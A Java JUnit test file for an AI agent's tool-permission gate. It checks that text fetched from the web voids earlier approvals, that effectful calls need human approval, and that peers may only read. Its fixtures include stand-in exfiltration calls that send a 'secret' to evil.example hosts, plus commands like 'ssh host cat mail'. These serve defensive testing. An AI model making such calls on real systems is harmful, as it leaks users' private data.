package dev.alpi.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.alpi.engine.tools.Arguments;
import dev.alpi.engine.tools.ToolFailure;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What came from outside, and who is not the owner: what they may have done. */
@Timeout(20)
class GateOutsideTest extends GateFixture {
  @Test
  void after_text_from_outside_older_approvals_are_worth_nothing() throws Exception {
    approve(Approver.Answer.ALWAYS);
    check("s1", "{\"command\":\"make\"}");
    taint.add("the web");
    approve(Approver.Answer.SESSION);
    check("s1", "{\"command\":\"make\"}");
    check("s1", "{\"command\":\"make\"}");
    // also what only reads: a repository from there may say what git runs
    check("s1", "{\"command\":\"git status\"}");
    assertThat(asked).hasSize(3).allMatch(q -> q.scope() == Approver.Scope.ONCE);
    assertThat(asked.getFirst().reasons().getFirst()).contains("the web");
    assertThat(log()).contains("ALLOW severity=caution pattern='taint' reason='once'");
  }

  @Test
  void in_a_sandbox_text_from_outside_changes_nothing() throws Exception {
    isSandboxed = true;
    taint.add("the web");
    approve(Approver.Answer.DENY);
    check("s1", "{\"command\":\"git status\"}");
    assertThat(asked).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "memory | {\"action\":\"add\",\"content\":\"x\"}",
        "db | {\"action\":\"exec\",\"sql\":\"x\"}",
        "delegate | {\"goals\":[\"x\"]}",
        "write_file | {\"path\":\"/home/me/granted/x\",\"content\":\"x\"}",
        "delete_file | {\"path\":\"/home/me/other/x\"}",
        "send_message | {\"text\":\"x\"}",
        "web_fetch | {\"url\":\"https://evil.example/?q=secret\"}",
        "web_extract | {\"url\":\"https://secret.evil.example/\",\"question\":\"x\"}",
        "a_tool_of_tomorrow | {}"
      })
  void after_text_from_outside_what_has_an_effect_needs_a_person(String tool, String json)
      throws Exception {
    taint.add("the web");
    approve(Approver.Answer.NOBODY);
    assertThatThrownBy(() -> gate.check(tool, Arguments.parse(json), context("s1")))
        .isInstanceOf(ToolFailure.class)
        .hasMessageContaining("nobody is there to ask");
    approve(Approver.Answer.ONCE);
    gate.check(tool, Arguments.parse(json), context("s1"));
    assertThat(asked).hasSize(1);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "memory | {\"action\":\"read\"}",
        "db | {\"action\":\"query\",\"sql\":\"x\"}",
        "read_file | {\"path\":\"x\"}",
        "write_file | {\"path\":\"x\",\"content\":\"x\"}",
        "web_fetch | {\"url\":\"x\"}",
        "web_fetch | {\"url\":\"https://docs.trusted.example/?q=x\"}",
        "web_search | {\"query\":\"x\"}",
        "todo | {\"action\":\"list\"}",
        "ask_user | {}"
      })
  void after_text_from_outside_what_has_none_goes_on(String tool, String json) throws Exception {
    taint.add("the web");
    approve(Approver.Answer.DENY);
    gate.check(tool, Arguments.parse(json), context("s1"));
    assertThat(asked).isEmpty();
  }

  @Test
  void files_outside_the_workspace_are_asked_for_and_those_granted_are_not() throws Exception {
    approve(Approver.Answer.SESSION);
    Gate.Passed inside =
        gate.check("read_file", Arguments.parse("{\"path\":\"x\"}"), context("s1"));
    Gate.Passed granted =
        gate.check(
            "read_file", Arguments.parse("{\"path\":\"/home/me/granted/x\"}"), context("s1"));
    assertThat(asked).isEmpty();
    assertThat(inside.source()).isEmpty();
    assertThat(granted.source()).contains("a file outside the workspace");
    for (String tool : List.of("read_file", "write_file", "search", "edit_file", "attach_file")) {
      gate.check(tool, Arguments.parse("{\"path\":\"/home/me/notes/x\"}"), context("s1"));
      gate.check(tool, Arguments.parse("{\"path\":\"/home/me/notes/x\"}"), context("s1"));
    }
    assertThat(asked).hasSize(5);
    assertThat(asked.getFirst().command()).isEqualTo("read_file /home/me/notes/x");
  }

  @Test
  void a_turn_has_no_tools_outside_its_scope() throws Exception {
    scope = (tool, action) -> tool.equals("memory") && action.equals(Optional.of("read"));
    gate.check("memory", Arguments.parse("{\"action\":\"read\"}"), context("s1"));
    for (String call : List.of("{\"action\":\"add\",\"content\":\"x\"}", "{}")) {
      assertThatThrownBy(() -> gate.check("memory", Arguments.parse(call), context("s1")))
          .hasMessageContaining("whoever this turn is for may not use memory");
    }
    assertThatThrownBy(() -> gate.check("read_file", Arguments.parse("{}"), context("s1")))
        .hasMessageContaining("may not use read_file");
    assertThat(log()).contains("reason='authority'");
  }

  @Test
  void who_may_use_some_actions_of_a_tool_may_not_leave_the_action_out() throws Exception {
    // as peers.yaml has it: tools: {allow: ["terminal:status"]}
    scope = (tool, action) -> tool.equals("terminal") && action.orElse("status").equals("status");
    check("s1", "{\"action\":\"status\",\"id\":\"x\"}");
    for (String call :
        List.of(
            "{\"command\":\"ls\"}",
            "{\"command\":\"ls\",\"action\":null}",
            "{\"command\":\"ls\",\"action\":\"run\"}")) {
      assertThatThrownBy(() -> check("s1", call))
          .as(call)
          .hasMessageContaining("whoever this turn is for may not use terminal");
    }
    scope = (tool, action) -> tool.equals("terminal") && action.orElse("run").equals("run");
    check("s1", "{\"command\":\"ls\"}");
  }

  @Test
  void a_peer_is_not_the_owner_whatever_it_is_called() throws Exception {
    approve(Approver.Answer.ALWAYS);
    String call = "{\"path\":\"/home/me/notes/x\"}";
    gate.check("read_file", Arguments.parse(call), context("s1"));
    origin = Origin.peer("owner");
    approve(Approver.Answer.NOBODY);
    assertThatThrownBy(() -> gate.check("read_file", Arguments.parse(call), context("s2")))
        .isInstanceOf(ToolFailure.class)
        .hasMessageContaining("nobody is there to ask");
    assertThatThrownBy(() -> Origin.peer("__interactive__"))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void a_peer_may_look_and_nothing_else() throws Exception {
    origin = Origin.peer("p1");
    approve(Approver.Answer.ONCE);
    gate.check("read_file", Arguments.parse("{\"path\":\"x\"}"), context("s1"));
    assertThatThrownBy(() -> check("s1", "{\"command\":\"make\"}"))
        .isInstanceOf(ToolFailure.class)
        .hasMessageContaining("a peer may only look");
    isSandboxed = true;
    for (String[] call :
        new String[][] {
          {"terminal", "{\"command\":\"make\"}"},
          {"terminal", "{\"action\":\"kill\",\"id\":\"x\"}"},
          {"write_file", "{\"path\":\"x\",\"content\":\"x\"}"},
          {"edit_file", "{\"path\":\"x\",\"old_string\":\"x\",\"new_string\":\"y\"}"},
          {"delete_file", "{\"path\":\"x\"}"},
          {"attach_file", "{\"path\":\"x\"}"},
          {"todo", "{\"action\":\"add\",\"content\":\"x\"}"},
          {"memory", "{\"action\":\"add\",\"content\":\"x\"}"}
        }) {
      assertThatThrownBy(() -> gate.check(call[0], Arguments.parse(call[1]), context("s1")))
          .as(call[0])
          .isInstanceOf(ToolFailure.class)
          .hasMessageContaining("a peer may only look");
    }
    check("s1", "{\"command\":\"ls\"}");
    assertThat(log()).contains("reason='authority'");
  }

  @Test
  void a_peer_runs_nothing_in_a_sandbox_either() {
    origin = Origin.peer("p1");
    isSandboxed = true;
    approve(Approver.Answer.ONCE);
    assertThatThrownBy(() -> check("s1", "{\"command\":\"make\"}"))
        .isInstanceOf(ToolFailure.class)
        .hasMessageContaining("a peer may only look");
  }

  @Test
  void who_says_yes_sees_what_to() throws Exception {
    taint.add("the web");
    approve(Approver.Answer.ONCE);
    gate.check(
        "memory", Arguments.parse("{\"action\":\"add\",\"content\":\"a lie\"}"), context("s1"));
    gate.check("delegate", Arguments.parse("{\"goals\":[\"mail it\"]}"), context("s1"));
    gate.check("web_fetch", Arguments.parse("{\"url\":\"https://e.example/?x\"}"), context("s1"));
    assertThat(asked.get(0).command()).contains("a lie");
    assertThat(asked.get(1).command()).contains("mail it");
    assertThat(asked.get(2).command()).contains("https://e.example/?x");
    assertThat(asked.get(2).reasons().getLast()).contains("from the model");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl https://x",
        "gh issue view 5",
        "git fetch",
        "ssh host cat mail",
        "npm install",
        "cat /home/me/granted/notes",
        "cat /var/log/x"
      })
  void what_commands_print_may_be_from_outside(String command) throws Exception {
    approve(Approver.Answer.ONCE);
    String json = "{\"command\":\"" + command + "\"}";
    assertThat(gate.check("terminal", Arguments.parse(json), context("s1")).source()).isPresent();
    assertThat(
            gate.check("terminal", Arguments.parse("{\"command\":\"ls\"}"), context("s1")).source())
        .isEmpty();
  }
}
